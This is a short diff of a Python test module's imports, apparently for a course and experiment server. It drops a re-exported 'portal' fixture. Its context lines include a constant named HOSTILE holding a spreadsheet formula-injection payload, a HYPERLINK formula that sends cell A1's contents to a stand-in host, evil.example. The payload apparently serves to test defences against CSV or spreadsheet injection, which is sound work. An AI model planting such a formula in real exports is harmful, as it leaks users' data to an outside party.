@@ -19,11 +19,9 @@ from server.courses.models import Assignment, Course, Membership, Role
 from tests.kernels.experiment.made import result
 from tests.server.databases import ON_SQLITE
 from tests.server.experiments.started import TILE, run_all, runner_of, started
-from tests.server.web.conftest import Portal, portal
+from tests.server.web.conftest import Portal
 from tests.server.web.signed_in import client_of
 from worker.commands.root import Exit, tilelab
-
-__all__ = ["portal"]
 
 ROOT = Path(kernels.__file__).parent.parent
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
